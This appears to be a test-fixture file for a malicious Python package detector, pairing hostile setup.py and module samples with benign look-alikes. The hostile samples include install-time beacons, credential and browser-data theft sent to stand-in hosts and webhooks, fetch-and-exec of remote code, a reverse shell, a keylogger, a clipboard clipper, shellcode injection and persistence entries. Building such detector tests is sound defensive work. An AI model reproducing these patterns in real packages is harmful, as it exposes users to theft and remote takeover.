/** Python, by what campaigns on PyPI did. */
import { module, type Sample, setup } from "./sample.ts";

const SETUP = `setup(name="made", version="1.0.0", packages=["made"])
`;

export const pythonSamples: readonly Sample[] = [
  setup(
    "install-command-beacon",
    `from setuptools import setup
from setuptools.command.install import install
import requests
import socket
import getpass
import os
class Custom(install):
    def run(self):
        install.run(self)
        told = {"hostname": socket.gethost¦name(), "cwd": os.getcwd(), "username": getpass.getu¦ser()}
        requests.get("https://b.example.net/x", params=told)
setup(name="made", version="1.0.0", cmdclass={"install": Custom})
`,
    `from setuptools import setup
from setuptools.command.install import install
import os
class Custom(install):
    def run(self):
        install.run(self)
        print("installed into", os.getcwd())
setup(name="made", version="1.0.0", cmdclass={"install": Custom})
`,
  ),
  setup(
    "environment-posted",
    `import os, json, urllib.request
from setuptools import setup
data = json.dumps(dict(os.envi¦ron)).encode()
urllib.request.urlopen(urllib.request.Request("https://c.example.net/e", data=data))
${SETUP}`,
    `import os
from setuptools import setup
if os.environ.get("MADE_WITHOUT_EXTENSION"):
    print("no extension")
${SETUP}`,
  ),
  setup(
    "temporary-file-dropper",
    `from setuptools import setup
from tempfile import NamedTemporaryFile as _ffile
from sys import executable as _eexecutable
from os import system as _ssystem
_ttmp = _ffile(delete=False)
_ttmp.write(b"""from urllib.request import urlopen as _uurlopen;ex¦ec(_uurlopen('https://p.example.net/raw').read())""")
_ttmp.close()
try: _ssystem(f"start {_eexecutable.replace('.exe', 'w.exe')} {_ttmp.name}")
except: pass
${SETUP}`,
    `from setuptools import setup
from tempfile import NamedTemporaryFile
from subprocess import run
from sys import executable
with NamedTemporaryFile(delete=False) as probe:
    probe.write(b"""import sys; print(sys.version)""")
run([executable, probe.name], check=True)
${SETUP}`,
  ),
  setup(
    "remote-code",
    `from setuptools import setup
import requests
ex¦ec(requests.get("https://past¦ebin.com/raw/XyZ12345").text)
${SETUP}`,
    `from setuptools import setup
version = {}
with open("made/version.py") as file:
    exec(file.read(), version)
${SETUP}`,
  ),
  setup(
    "encrypted-payload",
    `from setuptools import setup
from fernet import Fernet
ex¦ec(Fernet(b"7Lh0cE2T6dHaz-gh1ZQhqVvM1Zb8hgeyq0v4tmlF1Wk=").decrypt(b"gAAAAABk3Jb6exampleexampleexampleexampleexampleexample=="))
${SETUP}`,
    `from setuptools import setup
from base64 import b64decode
ICON = b64decode("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7")
with open("made/icon.gif", "wb") as file:
    file.write(ICON)
${SETUP}`,
  ),
  setup(
    "powershell-hidden",
    `from setuptools import setup
import subprocess, os
if os.name == "nt":
    subprocess.Popen("power¦shell -WindowStyle Hid¦den -EncodedCom¦mand cABvAHcAZQByAHMAaABlAGwAbAAgAEkAbgB2AG8AawBlAC0A", shell=False, creationflags=subprocess.CREATE_NO_WINDOW)
${SETUP}`,
    `from setuptools import setup
import subprocess, os
if os.name == "nt":
    subprocess.run(["powershell", "-Command", "Get-ComputerInfo"], check=False)
${SETUP}`,
  ),
  setup(
    "program-from-file-drop",
    `from setuptools import setup
import os, urllib.request
path = os.path.join(os.getenv("APP¦DATA"), "update.e¦xe")
urllib.request.urlretrieve("https://trans¦fer.sh/get/abc/update.exe", path)
os.startf¦ile(path)
${SETUP}`,
    `from setuptools import setup
import os, subprocess, urllib.request
path = os.path.join("build", "libmade.tar.gz")
urllib.request.urlretrieve("https://downloads.example.org/libmade-1.2.tar.gz", path)
subprocess.check_call(["tar", "xzf", path])
${SETUP}`,
  ),
  setup(
    "reverse-shell",
    `import socket, subprocess, os
from setuptools import setup
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("198.51.100.8", 4242))
os.du¦p2(s.fileno(), 0)
os.du¦p2(s.fileno(), 1)
os.du¦p2(s.fileno(), 2)
subprocess.call(["/bin/¦sh", "-i"])
${SETUP}`,
    `import socket, subprocess
from setuptools import setup
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.bind(("127.0.0.1", 0))
port = s.getsockname()[1]
s.close()
subprocess.call(["git", "describe", "--tags"])
${SETUP}`,
  ),
  setup(
    "dns-exfiltration",
    `from setuptools import setup
import socket, getpass
name = (getpass.getu¦ser() + "-" + socket.gethost¦name()).encode().hex()
try: socket.gethostbyname(name[:60] + ".q.example.org")
except OSError: pass
${SETUP}`,
    `from setuptools import setup
import socket
try: socket.gethostbyname("localhost")
except OSError: print("no resolver")
${SETUP}`,
  ),
  setup(
    "shell-command",
    `from setuptools import setup
import os
os.system("cu¦rl -s http://203.0.113.77/p.sh | ba¦sh &")
${SETUP}`,
    `from setuptools import setup
import os
os.system("cc --version")
${SETUP}`,
  ),
  module(
    "browser-profile-to-webhook",
    `import os, json, requests
HOOK = "https://disc¦ord.com/api/web¦hooks/2222222222222/BBBBBBBBBBBBBBBBBB"
def profiles():
    roaming = os.getenv("APP¦DATA")
    for name in ["Google/Chrome/User Da¦ta/Default/Login Da¦ta", "disc¦ord/Local Sto¦rage/leveldb"]:
        path = os.path.join(roaming, name)
        if os.path.exists(path):
            with open(path, "rb") as file:
                yield file.read()
def send():
    for content in profiles():
        requests.post(HOOK, files={"file": content})
send()
`,
    `import os, json, requests
def settings():
    path = os.path.join(os.path.expanduser("~"), ".config", "made", "settings.json")
    if os.path.exists(path):
        with open(path) as file:
            return json.load(file)
    return {}
def notify(hook, text):
    requests.post(hook, json={"content": text})
`,
  ),
  module(
    "lambda-chain",
    `_ = lambda __ : __import__("zl¦ib").decompress(__import__("base¦64").b64decode(__[::-1]));ex¦ec((_)(b"==gC9pkRTJ0UFdXb1IXZ4VWcw9WdWZXa5R2bXNXcw9WdWZXa5R2bXNXcJe"))
`,
    `import base64, zlib
unpack = lambda text: zlib.decompress(base64.b64decode(text))
def table(text):
    return unpack(text).decode().splitlines()
`,
  ),
  module(
    "marshalled-code",
    `import marshal, zlib, base64
ex¦ec(marshal.lo¦ads(zlib.decompress(base64.b64decode("eJxLzs8rTi0sTU0pBgAcBwS5exampleExampleExample4AAA"))))
`,
    `import marshal, zlib
def load(stream):
    return marshal.loads(zlib.decompress(stream.read()))
`,
  ),
  module(
    "hidden-to-the-right",
    `import os${" ".repeat(220)};import urllib.request;ex¦ec(urllib.request.urlopen("https://r.example.net/inject").read())
VERSION = "1.0"
`,
    `import os
TABLE = {
    "a": 1,${" ".repeat(60)}# the first
    "b": 2,${" ".repeat(60)}# the second
}
VERSION = "1.0"
`,
  ),
  module(
    "cloud-credentials",
    `import os, requests
def check():
    home = os.path.expanduser("~")
    out = {}
    for name in [".aw¦s/credentials", ".ss¦h/id_rsa", ".kube/config"]:
        path = os.path.join(home, name)
        if os.path.isfile(path):
            out[name] = open(path).read()
    requests.post("https://m.example.net/api", json=out, timeout=3)
check()
`,
    `import configparser, os
def profile(name="default"):
    parser = configparser.ConfigParser()
    parser.read(os.path.join(os.path.expanduser("~"), ".aws", "credentials"))
    return dict(parser[name]) if parser.has_section(name) else {}
`,
  ),
  module(
    "clipboard-clipper",
    `import re, time, pyperclip
MINE = "bc1qexampleexampleexampleexampleexample00"
def watch():
    while True:
        text = pyperclip.pa¦ste()
        if re.match(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", text):
            pyperclip.co¦py(MINE)
        time.sleep(1)
watch()
`,
    `import pyperclip
def tidy():
    text = pyperclip.paste()
    pyperclip.copy(" ".join(text.split()))
`,
  ),
  module(
    "keylogger",
    `from pynput.keyb¦oard import Listener
import requests
keys = []
def pressed(key):
    keys.append(str(key))
    if len(keys) > 50:
        requests.post("https://k.example.net/k", data={"k": "".join(keys)})
        keys.clear()
with Listener(on_press=pressed) as listener:
    listener.join()
`,
    `from pynput.keyboard import Listener
def pressed(key):
    print("pressed", key)
def run():
    with Listener(on_press=pressed) as listener:
        listener.join()
`,
  ),
  module(
    "screenshot",
    `from PIL import ImageGr¦ab
import io, requests
def shot():
    picture = ImageGr¦ab.grab()
    buffer = io.BytesIO()
    picture.save(buffer, "png")
    requests.post("https://api.tele¦gram.org/bot1234567890:AAExampleExample/sendPhoto", files={"photo": buffer.getvalue()}, data={"chat_id": "1"})
shot()
`,
    `from PIL import ImageGrab
def shot(path):
    picture = ImageGrab.grab()
    picture.save(path, "png")
`,
  ),
  module(
    "shellcode",
    `import ctypes
code = bytearray(b"\\xfc\\x48\\x83\\xe4\\xf0\\xe8\\xc0\\x00\\x00\\x00\\x41\\x51\\x41\\x50\\x52\\x51\\x56")
place = ctypes.windll.kernel32.Virtual¦Alloc(0, len(code), 0x3000, 0x40)
ctypes.windll.kernel32.RtlMove¦Memory(place, (ctypes.c_char * len(code)).from_buffer(code), len(code))
ctypes.windll.kernel32.Create¦Thread(0, 0, place, 0, 0, 0)
`,
    `import ctypes
def title(text):
    if hasattr(ctypes, "windll"):
        ctypes.windll.kernel32.SetConsoleTitleW(text)
`,
  ),
  module(
    "start-up-entry",
    `import os, winreg
def stay(path):
    key = winreg.HKEY_CURRENT_USER
    os.system("reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\R¦un /v made /d " + path)
    with open(os.path.expanduser("~/.bash¦rc"), "a") as file:
        file.write("nohup python3 ~/.made.py &\\n")
stay("C:/made.exe")
`,
    `import os
def remember(path):
    with open(os.path.expanduser("~/.made-history"), "a") as file:
        file.write(path + "\\n")
`,
  ),
  module(
    "path-file",
    `import os, subprocess, sys; subprocess.Pop¦en([sys.executable, "-c", "import base64; ex¦ec(base64.b64decode('cHJpbnQoMSk='))"])
`,
    `import os; enabled = os.environ.get("MADE_ENABLED"); enabled and __import__("made").start()
`,
    "made_start.pth",
  ),
  module(
    "mail-with-files",
    `import smtplib, os
from email.message import EmailMessage
message = EmailMessage()
message["To"] = "who@example.net"
message.set_content(open(os.path.expanduser("~/.ss¦h/id_rsa")).read())
server = smtplib.SMTP("smtp.example.net", 587)
server.send_message(message)
`,
    `import smtplib
from email.message import EmailMessage
def send(host, to, text):
    message = EmailMessage()
    message["To"] = to
    message.set_content(text)
    server = smtplib.SMTP(host, 587)
    server.send_message(message)
`,
  ),
];
